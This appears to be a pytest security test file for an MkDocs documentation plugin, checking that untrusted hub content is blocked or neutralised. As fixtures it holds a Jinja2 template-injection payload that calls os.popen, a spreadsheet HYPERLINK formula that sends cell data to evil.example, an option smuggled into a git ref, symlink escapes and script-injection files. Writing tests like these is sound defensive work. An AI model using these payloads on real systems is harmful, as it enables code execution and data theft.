"""What a pull request brings is untrusted, whatever kind of file it is: a template, a
file of the docs folder, a value that ends up in a spreadsheet, an option that reaches git.
Only mkdocs.yml is trusted. Each case makes its fixture at test time."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import MINI_HUB, keeping_nothing, run_mkdocs
from conftest import run_validate as validate
from playbook.cli import main

#: A hub template reaching Python's internals: it would run a shell command on the builder.
SHELL = "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}"



# -- templates -------------------------------------------------------------------------------

def test_a_hub_template_cannot_run_a_shell_command(hub, tmp_path):
    marker = tmp_path / "ran"
    root = hub({"templates/role.html.j2": "<h1>{{ title }}</h1>\n"
                + SHELL.replace("MARKER", str(marker)) + "\n"})
    built = run_mkdocs(root, tmp_path / "site")
    assert built.returncode == 1 and "Traceback" not in built.stderr
    assert "templates/role.html.j2:2: error: rendering roles/manager.md failed: access to " \
           "attribute '__init__'" in built.stderr
    assert "render sandboxed; `trust_templates: true`" in built.stderr
    code, output = validate(root)  # validate renders a hub's overrides as the build does
    assert code == 1 and "templates/role.html.j2:2" in output
    assert not marker.exists()


def test_a_hub_template_renders_sandboxed_yet_can_do_what_ours_do(hub, tmp_path):
    """Blocks replaced, shipped macros and filters called, lists built with `do`."""
    root = hub({"templates/role.html.j2": """
        {% extends "playbook/role.html.j2" %}
        {% block header %}{% set seen = [] %}{% do seen.append(heading|upper) %}
        <h1>{{ seen|join }} ({{ "case-study"|label }})</h1>{{ super() }}{% endblock %}
    """})
    built = run_mkdocs(root, tmp_path / "site", "--strict")
    assert built.returncode == 0, built.stderr
    assert "SALES MANAGER (Case study)" in (tmp_path / "site/roles/manager/index.html").read_text()


def test_a_hub_that_trusts_its_templates_says_so_in_mkdocs_yml(hub, tmp_path):
    root = hub({
        "mkdocs.yml": MINI_HUB["mkdocs.yml"].replace(
            "  - playbook\n", "  - playbook:\n              trust_templates: true\n"),
        "templates/role.html.j2": "<h1>{{ title }}</h1>\n<p>{{ cycler.__init__.__name__ }}</p>\n",
    })
    built = run_mkdocs(root, tmp_path / "site", "--strict")
    assert built.returncode == 0, built.stderr
    assert "<p>__init__</p>" in (tmp_path / "site/roles/manager/index.html").read_text()
    assert validate(root)[0] == 0


def test_a_template_linked_from_outside_the_hub_is_refused_and_never_read(hub, tmp_path):
    secret = tmp_path / "secret.html"
    secret.write_text("SECRET-TEMPLATE-TEXT\n")
    root = hub({"templates/role.html.j2": '{% include "x.html.j2" %}\n'})
    (root / "templates/x.html.j2").symlink_to(secret)
    code, output = validate(root)
    assert code == 1
    assert (f"templates/x.html.j2: error: the template is a symbolic link to '{secret}', "
            "outside the hub") in output
    built = run_mkdocs(root, tmp_path / "site")
    assert built.returncode == 1 and "Traceback" not in built.stderr
    assert "templates/x.html.j2" in built.stderr
    assert "SECRET-TEMPLATE-TEXT" not in built.stderr + output
    assert not list((tmp_path / "site").rglob("*.html")) or not any(
        "SECRET-TEMPLATE-TEXT" in p.read_text() for p in (tmp_path / "site").rglob("*.html"))


def test_a_loop_of_template_folders_is_refused_without_hanging(hub, tmp_path):
    root = hub({"templates/role.html.j2": '{% extends "playbook/role.html.j2" %}\n'})
    (root / "templates/parts").mkdir()
    (root / "templates/parts/again").symlink_to("..")
    code, output = validate(root)
    assert code == 1 and "templates/parts/again: error: the template" in output
    assert "loop" in output


def test_a_loop_of_folders_in_the_docs_folder_is_one_error_not_a_hang(hub, tmp_path):
    """MkDocs walks the docs folder following links: a folder linked into itself never
    ended (300 s and 2 GB, then killed)."""
    root = hub({"content/a/x.md": "# X\n"})
    (root / "content/a/loop").symlink_to("..")
    code, output = validate(root)
    assert code == 1
    assert ("content/a/loop: error: the published file is a symbolic link to '..', a folder "
            "that holds it (a loop)") in output
    built = run_mkdocs(root, tmp_path / "site")
    assert built.returncode == 1 and "content/a/loop" in built.stderr


# -- the docs folder never replaces what the plugin makes ------------------------------------

@pytest.mark.parametrize("path, what", [
    ("content/assets/playbook/playbook.js", "the plugin's own file assets/playbook/playbook.js"),
    ("content/assets/playbook/roles.json", "the plugin's own file assets/playbook/roles.json"),
    ("content/assets/playbook/search-worker.js",
     "the plugin's own file assets/playbook/search-worker.js"),
    ("content/assets/playbook/search-facets.json",
     "the plugin's own file assets/playbook/search-facets.json"),
    ("content/assets/playbook/playbook.css", "the plugin's own file assets/playbook/playbook.css"),
    ("content/raci.csv", "the plugin's own file raci.csv"),
    ("content/playbook.json", "the plugin's own file playbook.json"),
    # (what `playbook generate` writes beside each language's pages, for `playbook index`)
    ("content/assets/playbook/site.json", "the plugin's own file assets/playbook/site.json"),
    ("content/pagefind/pagefind.js", "the plugin's own folder pagefind/"),
    ("content/feeds/all.xml", "the plugin's own folder feeds/"),
    ("content/roles/rep.md", "the generated page roles/rep.md (made from playbook/roles/rep.yml)"),
    ("content/roles/rep/index.md", "the generated page roles/rep.md (made from "
                                   "playbook/roles/rep.yml)"),
    ("content/onboarding/rep.md", "the generated page onboarding/rep.md (made from the role rep)"),
    ("content/roles/index.md", "the generated page roles/index.md"),
    ("content/roles/README.md", "the generated page roles/index.md"),
])
def test_a_file_of_the_docs_folder_at_a_path_of_ours_is_a_located_error(hub, tmp_path, path,
                                                                         what):
    root = hub({path: "window.__xss = 1; // or a page of its own\n"})
    code, output = validate(root)
    shown = path.rsplit("/", 1)[0] if "folder" in what else path
    assert code == 1 and f"{shown}: error: is {'' if 'folder' in what else 'at the path of '}" \
        f"{what}" in output, output
    built = run_mkdocs(root, tmp_path / "site")
    assert built.returncode == 1 and shown in built.stderr
    assert not (tmp_path / "site").exists()


def test_a_translation_folder_cannot_replace_ours_either(hub):
    root = hub({"playbook/hub.yml": "name: Mini hub\nlanguages: [en, ur]\n",
                "content/ur/assets/playbook/playbook.js": "window.__xss = 1;\n"})
    code, output = validate(root)
    assert code == 1 and "content/ur/assets/playbook/playbook.js: error" in output


def test_an_entity_with_the_id_index_is_refused(hub):
    root = hub({"playbook/metrics/index.yml": "title: Index\ndefinition: D.\n"})
    code, output = validate(root)
    assert code == 1
    assert ("playbook/metrics/index.yml: error: the id 'index' is the path of the metrics "
            "index page (metrics/index.md): rename the file") in output


# -- what a manager opens in a spreadsheet ---------------------------------------------------

def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(hub, tmp_path):
    import csv

    root = hub({
        "playbook/responsibilities/closing.yml": """
            title: '=HYPERLINK("https://evil.example/?"&A1,"Open")'
            accountable: manager
            responsible: [rep]
        """,
        "playbook/responsibilities/plus.yml": "title: '+1+1'\naccountable: manager\nresponsible: [rep]\n",
        "playbook/responsibilities/minus.yml": "title: '-2+3'\naccountable: manager\nresponsible: [rep]\n",
        "playbook/responsibilities/at.yml": "title: '@SUM(1)'\naccountable: rep\nresponsible: [manager]\n",
        "playbook/responsibilities/tab.yml": "title: \"\\t=1\"\naccountable: rep\nresponsible: [manager]\n",
        "playbook/roles/manager.yml": "title: '=1+2'\nsummary: S.\nteam: sales\n",
    })
    result = CliRunner().invoke(main, ["export", str(root), "--format", "raci-csv", "-o",
                                       str(tmp_path / "raci.csv")])
    assert result.exit_code == 0, result.output
    assert run_mkdocs(root, tmp_path / "site").returncode == 0
    for path in (tmp_path / "raci.csv", tmp_path / "site/raci.csv"):
        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
        cells = {c for row in rows for c in row if c}
        assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")" in cells
        assert {"'+1+1", "'-2+3", "'@SUM(1)", "'\t=1", "'=1+2"} <= cells, cells
        assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
        assert {"Responsibility", "Sales rep", "A", "R"} <= cells  # the rest as it was


# -- values that ended in a traceback: each a located error, all of them at once -------------

def test_values_that_ended_in_tracebacks_are_located_errors_all_at_once(hub):
    deep = "".join("  " * i + "- \n" for i in range(1, 100)) + "  " * 100 + "- x\n"
    root = hub({
        "playbook/roles/alias.yml": "title: &a [x, *a]\nsummary: S.\nteam: sales\n",
        "playbook/roles/deep.yml": "title: T\nsummary: S.\nteam: sales\naka:\n" + deep,
        "playbook/onboarding/huge.yml": "title: W\nroles: all\nhours: 1e400\n",
        "playbook/onboarding/inf.yml": "title: W\nroles: all\nhours: .inf\n",
        "playbook/collateral/ipv6.yml": MINI_HUB["playbook/collateral/guide.yml"].replace(
            "file: files/guide.txt", "url: 'http://[::1'"),
        "playbook/collateral/port.yml": MINI_HUB["playbook/collateral/guide.yml"].replace(
            "file: files/guide.txt", "url: 'https://example.com:99999/'"),
        "playbook/collateral/secret.yml": MINI_HUB["playbook/collateral/guide.yml"].replace(
            "file: files/guide.txt", "url: 'https://ana:hunter2@intranet.example/deck'"),
        "playbook/metrics/text.yml": "title: T\ndefinition: '![x](http://[::1/a.png)'\n",
    })
    code, output = validate(root)
    assert code == 1
    for expected in (
            "playbook/roles/alias.yml:1:8: error: an alias names the value that holds it "
            "(a loop): refused",
            "playbook/roles/deep.yml:", "values nested more than 64 levels deep: refused",
            "playbook/onboarding/huge.yml:3:8: error: hours: expected a finite number, found "
            "'1e400'",
            "playbook/onboarding/inf.yml:3:8: error: hours: expected a number, found '.inf'",
            "playbook/collateral/ipv6.yml:", "found 'http://[::1' (invalid ipv6 url)",
            "playbook/collateral/port.yml:", "found 'https://example.com:99999/' (port out of "
            "range 0-65535)",
            "playbook/collateral/secret.yml:", "expected a URL without a user name or "
            "password"):
        assert expected in output, (expected, output)
    assert "hunter2" not in output.replace("ana:hunter2@", "")  # (said once, in the value)


def test_an_image_with_a_broken_address_in_text_is_no_traceback(hub, tmp_path):
    root = hub({"playbook/metrics/close-rate.yml": "title: Close rate\n"
                "definition: 'See ![chart](http://[::1/a.png).'\n"})
    built = run_mkdocs(root, tmp_path / "site", "--strict")
    assert built.returncode == 0, built.stderr
    assert "Traceback" not in built.stderr


def test_language_codes_twice_or_differing_by_case_are_one_error(hub):
    root = hub({"playbook/hub.yml": "name: Mini hub\nlanguages: [en, ur, ur, pt-BR, pt-br]\n"})
    code, output = validate(root)
    assert code == 1
    assert ("playbook/hub.yml:2:12: error: languages: 'ur' is listed twice; 'pt-br' and "
            "'pt-BR' are the same language (codes do not differ by case): list each language "
            "once") in output, output


def test_a_language_the_theme_has_no_words_for_is_a_located_error(hub, tmp_path):
    root = hub({"playbook/hub.yml": "name: Mini hub\nlanguages: [en, xx]\n"})
    built = run_mkdocs(root, tmp_path / "site")
    assert built.returncode == 1 and "Traceback" not in built.stderr
    assert ("playbook/hub.yml: error: languages: the theme has no words for 'xx': use a code "
            "it knows, such as af, ar") in built.stderr


def test_a_language_code_the_theme_writes_otherwise_gets_the_themes_words(hub, tmp_path):
    root = hub({"playbook/hub.yml": "name: Mini hub\nlanguages: [en, pt-br, de-CH]\n"})
    built = run_mkdocs(root, tmp_path / "site", "--strict")
    assert built.returncode == 0, built.stderr
    for lang, word in (("pt-br", "Pesquisar"), ("de-CH", "Suche")):
        page = (tmp_path / "site" / lang / "roles/index.html").read_text(encoding="utf-8")
        assert word in page, lang  # the search box's placeholder, in the theme's words


# -- playbook generate writes only into its own folder --------------------------------------

def generate(root: Path, out: Path | str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["generate", str(root), "--out", str(out)],
                                env=keeping_nothing())
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        result.exception
    return result.exit_code, result.output


def test_generate_never_writes_through_a_link_in_its_folder(hub, tmp_path):
    root = hub({"playbook/hub.yml": "name: Mini hub\nlanguages: [en, ur]\n"})
    victim, out = tmp_path / "victim", tmp_path / "out"
    victim.mkdir()
    out.mkdir()
    (out / "ur").symlink_to(victim)
    (out / "mkdocs.yml").symlink_to(victim / "config.yml")
    code, output = generate(root, out)
    assert code == 0, output
    assert list(victim.iterdir()) == []
    assert (out / "ur").is_dir() and not (out / "ur").is_symlink()
    assert (out / "ur/docs/roles/rep.md").is_file() and (out / "ur/mkdocs.yml").is_file()
    assert not (out / "mkdocs.yml").is_symlink()


@pytest.mark.parametrize("out, says", [
    (".", "is the hub itself (its mkdocs.yml)"),
    ("playbook", "is the hub's data folder playbook/"),
    ("templates", "is the hub's templates templates/"),
    ("content/built", "is inside the hub's docs folder content/"),
    ("..", "holds the hub itself (its mkdocs.yml)"),
])
def test_generate_refuses_a_folder_that_is_or_holds_the_hubs_sources(hub, out, says):
    root = hub({"templates/role.html.j2": '{% extends "playbook/role.html.j2" %}\n'})
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    code, output = generate(root, root / out)
    assert code == 2 and says in output, output
    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before


def test_generate_into_a_folder_of_the_hub_beside_its_sources_works(hub):
    root = hub()
    assert generate(root, root / "build/export")[0] == 0
    assert (root / "build/export/docs/roles/rep.md").is_file()


def test_a_full_disk_is_a_message_not_a_traceback(hub, tmp_path, monkeypatch):
    import errno
    import os

    from playbook import export_sync

    def full(src, dst):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(dst))

    monkeypatch.setattr(export_sync.os, "replace", full)
    code, output = generate(hub(), tmp_path / "out")
    assert code == 1
    assert f"error: cannot write or read {tmp_path}/out/docs" in output
    assert "No space left on device" in output and "Traceback" not in output


# -- the previous release's files, read from git ---------------------------------------------

def _tagged_hub(hub, old_files: dict[str, str]) -> Path:
    """A hub in git whose release tag `2026.1` has ``old_files`` (since changed)."""
    from test_versions import git

    root = hub(old_files)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "release")
    git(root, "tag", "2026.1")
    for name in old_files:
        (root / name).unlink()
    git(root, "add", "-A")
    git(root, "commit", "-qm", "since", date="2026-02-15T10:00:00")
    return root


def test_files_of_the_previous_release_get_the_limits_of_the_hubs_own(hub, tmp_path):
    big = "title: Big\ndefinition: D.\nnotes: [" + ", ".join(["x"] * 400_000) + "]\n"
    root = _tagged_hub(hub, {"playbook/metrics/big.yml": big,
                             "playbook/metrics/loop.yml": "title: &a [x, *a]\ndefinition: D.\n"})
    built = run_mkdocs(root, tmp_path / "site")
    assert built.returncode == 0 and "Traceback" not in built.stderr, built.stderr
    assert ("playbook/metrics/big.yml@2026.1: warning: the file as it was at '2026.1' is "
            "larger than 1,000,000 bytes: left out of what changed, unread") in built.stderr
    assert ("playbook/metrics/loop.yml@2026.1: warning: the file as it was at '2026.1' is "
            "left out of what changed: an alias names the value that holds it") in built.stderr
    assert built.stderr.count("loop.yml@2026.1") == 1
    changes = (tmp_path / "site/changes/index.html").read_text(encoding="utf-8")
    assert "2026.1" in changes


def test_changes_since_reaches_git_only_as_a_ref_never_as_an_option(hub, tmp_path):
    from test_versions import git

    root = hub({"mkdocs.yml": MINI_HUB["mkdocs.yml"].replace(
        "  - playbook\n", f"  - playbook:\n              changes_since: "
                          f"--output={tmp_path}/written\n")})
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "first")
    built = run_mkdocs(root, tmp_path / "site")
    assert built.returncode == 0, built.stderr
    assert not (tmp_path / "written").exists()
    page = (tmp_path / "site/changes/index.html").read_text(encoding="utf-8")
    assert "is not a commit, branch or tag of this repository" in page


def test_hub_text_cannot_add_a_task_the_path_counts_or_a_diagram(hub, tmp_path):
    from bs4 import BeautifulSoup

    fake = ('<ul class="pb-tasks"><li><input type="checkbox" data-pb-task="fake"> Fake</li>'
            '</ul>\n\n<pre class="mermaid">graph TD\n  A-->B\n  click A "https://evil.example"'
            '</pre>')
    root = hub({"playbook/onboarding/welcome.yml": f"title: Welcome\nroles: all\nhours: 2\n"
                                                    f"body: {json.dumps(fake)}\n"})
    built = run_mkdocs(root, tmp_path / "site", "--strict")
    assert built.returncode == 0, built.stderr
    page = BeautifulSoup((tmp_path / "site/onboarding/rep/index.html").read_text(),
                         "html.parser")
    assert "Fake" in page.article.get_text()  # the text stays, as text
    assert page.select('[data-pb-task="fake"]') == []
    assert page.select("input[data-pb-task]")  # (the path's own tasks are there)
    assert not [m for m in page.select(".mermaid") if "evil.example" in m.get_text()]


def test_a_template_every_page_shares_renders_sandboxed_on_every_page(hub, tmp_path):
    """Pages whose template a hub does not override render unsandboxed from the shipped
    templates alone, unless it overrides one they share (`_macros.html.j2`)."""
    import re

    from playbook.templating import SOURCE_TEMPLATES

    macros = (SOURCE_TEMPLATES / "_macros.html.j2").read_text(encoding="utf-8")
    root = hub({"templates/_macros.html.j2": macros + "{{ cycler.__init__.__globals__ }}\n"})
    built = run_mkdocs(root, tmp_path / "site")
    assert built.returncode == 1
    found = re.search(r"templates/_macros.html.j2:\d+: error: rendering \S+ failed: access to "
                      r"attribute '__init__'.* \(and (\d+) more pages\)", built.stderr)
    assert found, built.stderr
    assert int(found.group(1)) + 1 >= 18  # every page of the mini hub


def test_a_full_disk_while_mkdocs_writes_the_pages_ends_the_build_with_a_message(hub, tmp_path,
                                                                                monkeypatch):
    import errno
    import os

    import mkdocs.utils

    site = tmp_path / "site"
    root = hub()
    assert run_mkdocs(root, site).returncode == 0
    before = (site / "roles/rep/index.html").read_bytes()

    def full(content, output_path):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), output_path)

    monkeypatch.setattr(mkdocs.utils, "write_file", full)
    built = run_mkdocs(root, site)
    assert built.returncode == 1
    assert "playbook: cannot write or read" in built.stderr
    assert "No space left on device; the last good site is left as it was" in built.stderr
    assert "Traceback" not in built.stderr + built.stdout
    assert (site / "roles/rep/index.html").read_bytes() == before


def test_generate_gives_zensical_the_code_its_theme_knows(hub, tmp_path):
    import yaml

    root = hub({"playbook/hub.yml": "name: Mini hub\nlanguages: [en, pt-br, de-CH]\n"})
    code, output = generate(root, tmp_path / "out")
    assert code == 0, output
    for lang, theme_lang in (("pt-br", "pt-BR"), ("de-CH", "de")):
        text = (tmp_path / "out" / lang / "mkdocs.yml").read_text(encoding="utf-8")
        config = yaml.safe_load("\n".join(line for line in text.splitlines()
                                          if not line.startswith("#")))
        assert config["theme"]["language"] == theme_lang, lang
